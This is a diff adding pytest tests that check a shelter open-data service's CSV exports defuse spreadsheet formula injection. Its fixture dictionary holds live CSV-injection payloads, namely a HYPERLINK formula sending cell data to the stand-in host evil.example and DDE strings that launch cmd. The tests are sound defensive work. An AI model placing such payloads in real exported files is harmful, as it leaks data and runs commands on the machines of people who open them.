@@ -13,7 +13,7 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 
 from hub.importers.shelters import import_shelters, parse_shelter_file
-from hub.opendata.datasets import DATASETS
+from hub.opendata.datasets import DATASETS, FORMULA_STARTS, PLAIN_NUMBER, inert_cell
 from hub.shelters.models import Shelter
 from tests.conftest import DATA
 
@@ -140,3 +140,56 @@ def test_index_page(client: TestClient) -> None:
     assert "国土数値情報（行政区域データ）" in page
     assert "<td>751</td>" in page
     assert client.get("/opendata/", headers={"If-None-Match": response.headers["etag"]}).status_code == 304
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), half- and full-width.
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?d="&A2,"詳細")',
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "notes": "+1+cmd|' /C calc'!A0",
+    "served_area": "-2+3+cmd|' /C calc'!A0",
+    "phone": "\t=1+1",
+    "name_en": '＝HYPERLINK("http://evil.example")',
+}
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("＝1+1", "'＝1+1"),
+        ("＋1", "'＋1"),
+        ("－1", "'－1"),
+        ("＠SUM(A1)", "'＠SUM(A1)"),
+        ("品川区立城南小学校", "品川区立城南小学校"),
+        ("a=b", "a=b"),
+        ("-1.5", "-1.5"),  # a negative elevation stays a number
+        ("+3", "+3"),
+        ("", ""),
+    ],
+)
+def test_inert_cell(value: str, written: str) -> None:
+    assert inert_cell(value) == written
+
+
+@pytest.mark.parametrize("name", ["shelters.csv", "designated-shelters.csv", "shelters-tokyo.csv"])
+def test_csv_cells_never_start_a_formula(client: TestClient, db: Session, tmp_path: Path, name: str) -> None:
+    for kind in ("designated_emergency_site", "designated_shelter"):  # one in each GSI file
+        shelter = db.scalars(
+            select(Shelter).where(Shelter.source == "gsi", Shelter.kinds.any_() == kind).order_by(Shelter.id).limit(1)
+        ).one()
+        for column, value in FORMULAS.items():
+            setattr(shelter, column, value)
+        shelter.elevation_m = -1.5
+    db.flush()
+    rows = list(csv.reader(io.StringIO(download(client, name, tmp_path).read_text("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert all(not cell or cell[0] not in FORMULA_STARTS or PLAIN_NUMBER.fullmatch(cell) for cell in cells)
+    written = [cell for cell in cells if cell.lstrip("'") in FORMULAS.values()]
+    assert written and all(cell.startswith("'") for cell in written), "the attack is there, as text"
+    assert name != "shelters-tokyo.csv" or "-1.5" in cells  # numbers stay numbers
